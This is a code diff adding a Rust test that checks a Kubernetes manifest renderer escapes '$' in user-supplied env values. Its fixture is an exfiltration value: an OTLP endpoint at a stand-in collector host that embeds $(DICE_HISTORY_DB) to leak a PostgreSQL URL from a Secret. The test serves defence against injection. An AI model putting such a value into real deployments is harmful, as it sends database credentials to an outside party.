@@ -111,3 +111,37 @@ fn template_and_path_injection_are_refused() {
     let plain = "  monitoring:\n    dashboard:\n      folder: Team A dice\n    rules:\n      runbookBaseUrl: https://runbooks.example.com/dice\n";
     assert!(render(&dice("dice", plain)).status.success());
 }
+
+/// Kubernetes expands `$(VAR)` in env values: an author's `$(DICE_HISTORY_DB)` would send the
+/// PostgreSQL URL from the Secret to a collector of their choosing. Every user `$` is doubled.
+#[test]
+fn user_strings_in_env_values_are_not_expanded() {
+    let spec = "  telemetry:\n    otlpEndpoint: http://collector.example/$(DICE_HISTORY_DB)\n    serviceName: $(DICE_HISTORY_DB)\n";
+    let output = render(&dice("dice", spec));
+    assert!(
+        output.status.success(),
+        "{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let stdout = String::from_utf8(output.stdout).unwrap();
+    let deployment: serde_json::Value = serde_yaml::Deserializer::from_str(&stdout)
+        .map(|d| serde::Deserialize::deserialize(d).unwrap())
+        .find(|d: &serde_json::Value| d["kind"] == "Deployment")
+        .unwrap();
+    let env = deployment["spec"]["template"]["spec"]["containers"][0]["env"]
+        .as_array()
+        .unwrap();
+    let value = |name: &str| {
+        env.iter()
+            .find(|e| e["name"] == name)
+            .and_then(|e| e["value"].as_str())
+            .unwrap_or_default()
+            .to_owned()
+    };
+    assert_eq!(value("OTEL_SERVICE_NAME"), "$$(DICE_HISTORY_DB)");
+    assert_eq!(
+        value("OTEL_EXPORTER_OTLP_ENDPOINT"),
+        "http://collector.example/$$(DICE_HISTORY_DB)"
+    );
+    assert!(value("OTEL_RESOURCE_ATTRIBUTES").ends_with("k8s.pod.name=$(POD_NAME)"));
+}
